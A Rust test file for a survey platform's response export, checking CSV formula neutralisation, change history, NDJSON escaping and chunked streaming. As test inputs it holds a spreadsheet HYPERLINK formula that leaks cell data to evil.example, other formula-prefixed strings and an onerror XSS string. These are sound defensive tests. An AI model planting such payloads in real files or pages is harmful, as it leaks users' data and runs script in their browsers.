//! The export (`GET /v1/surveys/{survey}/responses`): streamed, complete, and safe to open in a
//! spreadsheet.

use crate::helpers::*;
use futures::StreamExt;
use pulsetap_collector::domain::Rating;
use pulsetap_wire::{RecordResponse, ResponseRecord};
use serde_json::json;
use std::collections::HashMap;
use time::OffsetDateTime;

async fn export(app: &TestApp, format: &str) -> reqwest::Response {
    let response = app
        .get_with_key(
            &format!("/v1/surveys/support/responses?format={format}"),
            Some(MARKETING_KEY),
        )
        .await;
    assert_eq!(response.status(), 200);
    response
}

/// The CSV as rows keyed by column name.
fn rows(csv_text: &str) -> Vec<HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    reader
        .records()
        .map(|record| {
            header
                .iter()
                .cloned()
                .zip(record.unwrap().iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

#[tokio::test]
async fn a_csv_export_neutralises_formulas_in_every_cell_a_customer_can_type() {
    let app = spawn_app().await;
    let hostile = [
        (
            r#"=HYPERLINK("http://evil.example/?"&A1,"Click for a refund")"#,
            "=cmd",
        ),
        ("+1 great", "+agent"),
        ("-2 bad", "-agent"),
        ("@SUM(A1:A9)", "@agent"),
    ];
    for (comment, agent) in hostile {
        // Each its own interaction: anonymous ratings are limited per visitor.
        let body = json!({"survey": "support", "response_id": new_id(), "score": 3,
                          "interaction": new_id(), "tags": {"agent": agent}, "comment": comment});
        assert_eq!(app.post_response(&body).await.status(), 201);
    }

    let response = export(&app, "csv").await;
    assert!(
        response.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let rows = rows(&response.text().await.unwrap());
    assert_eq!(rows.len(), hostile.len());
    for (comment, agent) in hostile {
        let row = rows
            .iter()
            .find(|row| row["comment"] == format!("'{comment}"))
            .unwrap_or_else(|| panic!("the comment {comment:?} is exported with an apostrophe"));
        assert_eq!(row["tag:agent"], format!("'{agent}"), "tag values too");
    }
    assert!(
        rows.iter().all(|row| row
            .values()
            .all(|cell| !cell.starts_with(['=', '+', '-', '@']))),
        "no cell starts a formula"
    );
}

#[tokio::test]
async fn a_csv_export_holds_tags_comment_and_the_history_of_changes() {
    let app = spawn_app().await;
    let mut body = json!({"survey": "support", "response_id": new_id(), "score": 2,
                          "interaction": "chat-77", "tags": {"agent": "alice", "channel": "chat"}});
    app.post_response(&body).await;
    body["score"] = json!(5);
    body["comment"] = json!("Sorted it out in the end, thanks");
    assert_eq!(app.post_response(&body).await.status(), 200);

    let rows = rows(&export(&app, "csv").await.text().await.unwrap());
    assert_eq!(rows.len(), 1, "one identity is one row");
    let row = &rows[0];
    assert_eq!(row["interaction"], "chat-77");
    assert_eq!(row["score"], "5");
    assert_eq!(row["comment"], "Sorted it out in the end, thanks");
    assert_eq!(row["tag:agent"], "alice");
    assert_eq!(row["tag:channel"], "chat");
    let history: Vec<&str> = row["history"].split(' ').collect();
    assert_eq!(history.len(), 2, "both scores: {history:?}");
    assert!(history[0].starts_with("2@") && history[1].starts_with("5@"));
}

#[tokio::test]
async fn an_ndjson_export_carries_a_comment_as_a_json_string_never_as_html() {
    let app = spawn_app().await;
    let markup = "<img src=x onerror=alert(1)>";
    let body = json!({"survey": "support", "response_id": new_id(), "score": 1, "comment": markup});
    app.post_response(&body).await;

    let response = export(&app, "ndjson").await;
    assert_eq!(
        response.headers()["content-type"].to_str().unwrap(),
        "application/x-ndjson"
    );
    assert_eq!(response.headers()["x-content-type-options"], "nosniff");
    let text = response.text().await.unwrap();
    let record: ResponseRecord = serde_json::from_str(text.lines().next().unwrap()).unwrap();
    assert_eq!(
        record.comment.as_deref(),
        Some(markup),
        "kept exactly as typed"
    );
}

#[tokio::test]
async fn a_large_export_is_streamed_in_chunks_without_a_length_up_front() {
    let app = spawn_app().await;
    let survey = app.state.surveys.get("support").unwrap();
    let now = OffsetDateTime::now_utc();
    let total = 3_000;
    for n in 0..total {
        let body = RecordResponse {
            survey: "support".into(),
            response_id: new_id(),
            score: 1 + (n % 5) as u8,
            interaction: Some(format!("chat-{n}")),
            sig: None,
            tags: [("agent".to_string(), format!("agent-{}", n % 7))].into(),
            comment: Some("A comment long enough to make the export span several chunks".into()),
            lang: None,
        };
        let rating = Rating::parse(body, survey).unwrap();
        app.state
            .store
            .record(survey.id.clone(), rating, now, true)
            .await
            .unwrap();
    }

    let response = export(&app, "ndjson").await;
    assert!(
        response.headers().get("content-length").is_none(),
        "the size is not known before the walk ends"
    );
    let mut chunks = response.bytes_stream();
    let (mut pieces, mut lines) = (0, 0);
    while let Some(chunk) = chunks.next().await {
        let chunk = chunk.unwrap();
        pieces += 1;
        lines += chunk.iter().filter(|&&byte| byte == b'\n').count();
    }
    assert_eq!(lines, total, "every response, once");
    assert!(pieces > 1, "sent as it is read, not as one buffer");
}
